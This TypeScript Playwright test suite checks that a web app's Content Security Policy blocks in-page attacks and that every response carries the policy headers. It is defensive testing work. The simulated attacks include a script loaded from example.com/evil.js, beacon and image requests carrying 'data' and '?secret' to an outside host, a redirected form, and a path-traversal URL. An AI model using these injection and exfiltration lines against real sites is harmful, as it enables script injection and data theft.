import { expect, type Page } from '@playwright/test';
import { test } from '../support/app-test.ts';

/** Attacks from inside the page and answers which directive of the policy that broke, and with what. */
async function violation(page: Page, attack: () => unknown): Promise<{ directive: string; blocked: string }> {
  const seen = await page.evaluateHandle(() => {
    const report = new Promise<{ directive: string; blocked: string }>((resolve) => {
      document.addEventListener(
        'securitypolicyviolation',
        (event) => resolve({ directive: event.effectiveDirective, blocked: event.blockedURI }),
        { once: true },
      );
    });
    return { report };
  });
  await page.evaluate(attack).catch(() => undefined);
  return seen.evaluate(({ report }) => report);
}

const ATTACKS: readonly { name: string; directive: string; attack: () => unknown }[] = [
  {
    name: 'an inline script',
    directive: 'script-src-elem',
    attack: () => {
      const script = document.createElement('script');
      script.textContent = 'window.attacked = true';
      document.body.append(script);
    },
  },
  {
    name: 'an inline event handler',
    directive: 'script-src-attr',
    attack: () => {
      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.attacked = true">');
    },
  },
  {
    name: 'a script from elsewhere',
    directive: 'script-src-elem',
    attack: () => {
      const script = document.createElement('script');
      script.src = 'https://example.com/evil.js';
      document.body.append(script);
    },
  },
  {
    name: 'a javascript address',
    directive: 'script-src-elem',
    attack: () => {
      const link = document.createElement('a');
      link.href = 'javascript:window.attacked = true';
      document.body.append(link);
      link.click();
    },
  },
  { name: 'a fetch elsewhere', directive: 'connect-src', attack: () => fetch('https://example.com/') },
  { name: 'a beacon', directive: 'connect-src', attack: () => navigator.sendBeacon('https://example.com/', 'data') },
  { name: 'a web socket', directive: 'connect-src', attack: () => new WebSocket('wss://example.com/') },
  {
    name: 'an image from elsewhere',
    directive: 'img-src',
    attack: () => {
      new Image().src = 'https://example.com/pixel.png?secret';
    },
  },
  {
    name: 'a style element without the nonce',
    directive: 'style-src-elem',
    attack: () => {
      const style = document.createElement('style');
      style.textContent = 'body { outline: 1px solid red }';
      document.head.append(style);
    },
  },
  {
    name: 'a style sheet from elsewhere',
    directive: 'style-src-elem',
    attack: () => {
      document.head.insertAdjacentHTML('beforeend', '<link rel="stylesheet" href="https://example.com/a.css">');
    },
  },
  {
    name: 'a style attribute in markup',
    directive: 'style-src-attr',
    attack: () => {
      document.body.insertAdjacentHTML('beforeend', '<p style="background: red">x</p>');
    },
  },
  {
    name: 'a font from elsewhere',
    directive: 'font-src',
    attack: () => new FontFace('evil', 'url(https://example.com/a.woff2)').load(),
  },
  {
    name: 'a frame',
    directive: 'frame-src',
    attack: () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://example.com/';
      document.body.append(frame);
    },
  },
  {
    name: 'an embedded object',
    directive: 'object-src',
    attack: () => {
      document.body.insertAdjacentHTML('beforeend', '<object data="https://example.com/x"></object>');
    },
  },
  {
    name: 'a worker from text',
    directive: 'worker-src',
    attack: () => new Worker(URL.createObjectURL(new Blob(['1']))),
  },
  {
    name: 'another base address',
    directive: 'base-uri',
    attack: () => {
      document.head.insertAdjacentHTML('beforeend', '<base href="https://example.com/">');
    },
  },
  {
    name: 'a form sent elsewhere',
    directive: 'form-action',
    attack: () => {
      document.body.insertAdjacentHTML('beforeend', '<form id="evil" action="https://example.com/"></form>');
      (document.getElementById('evil') as HTMLFormElement).submit();
    },
  },
];

test('the policy refuses every attack on it, by the directive meant for it', async ({ page }) => {
  for (const { name, directive, attack } of ATTACKS) {
    await test.step(name, async () => {
      expect(await violation(page, attack)).toMatchObject({ directive });
    });
  }
  expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
});

test('text never becomes code', async ({ page }) => {
  // Asked in a task of its own, because the debugger may evaluate where a page may not.
  const refused = await page.evaluate(async () => {
    const names: string[] = [];
    const run = (name: string, attack: () => unknown): Promise<void> =>
      new Promise((resolve) => {
        setTimeout(() => {
          try {
            attack();
          } catch (error) {
            names.push(`${name} ${(error as Error).name}`);
          }
          resolve();
        }, 0);
      });
    await run('eval', () => (Reflect.get(globalThis, 'eval') as (code: string) => unknown)('1'));
    await run('Function', () => new Function('return 1'));
    return names;
  });
  expect(refused).toEqual(['eval EvalError', 'Function EvalError']);
});

test('a style element with the nonce of the load applies, and every load has its own nonce', async ({ page }) => {
  const nonceOf = (): Promise<string> =>
    page.evaluate(() => document.querySelector<HTMLMetaElement>('meta[property="csp-nonce"]')?.nonce ?? '');
  const first = await nonceOf();
  expect(first).toMatch(/^[A-Za-z0-9+/]{22}==$/);
  const outline = await page.evaluate((nonce) => {
    const style = document.createElement('style');
    style.nonce = nonce;
    style.textContent = 'body { outline: 3px solid rgb(1, 2, 3) }';
    document.head.append(style);
    return getComputedStyle(document.body).outlineColor;
  }, first);
  expect(outline).toBe('rgb(1, 2, 3)');
  await page.reload();
  expect(await nonceOf()).not.toBe(first);
});

test('every answer of the origin carries the policy, whatever it is', async ({ page }) => {
  const answers = await page.evaluate(async () => {
    const script = document.querySelector('script')?.getAttribute('src') ?? '';
    const paths = [
      '/index.html',
      script,
      '/nowhere',
      '/print-jobs/none',
      '/program-api/v1/session',
      '/%2e%2e%2fpackage.json',
    ];
    return Promise.all(
      paths.map(async (path) => {
        const { headers } = await fetch(path);
        return [headers.get('content-security-policy') ?? '', headers.get('x-content-type-options') ?? ''] as const;
      }),
    );
  });
  for (const [policy, sniffing] of answers) {
    expect(policy).toContain("default-src 'none'; script-src 'self'; style-src 'self'");
    expect(policy).toContain("connect-src 'self';");
    expect(policy).not.toContain('unsafe');
    expect(sniffing).toBe('nosniff');
  }
});
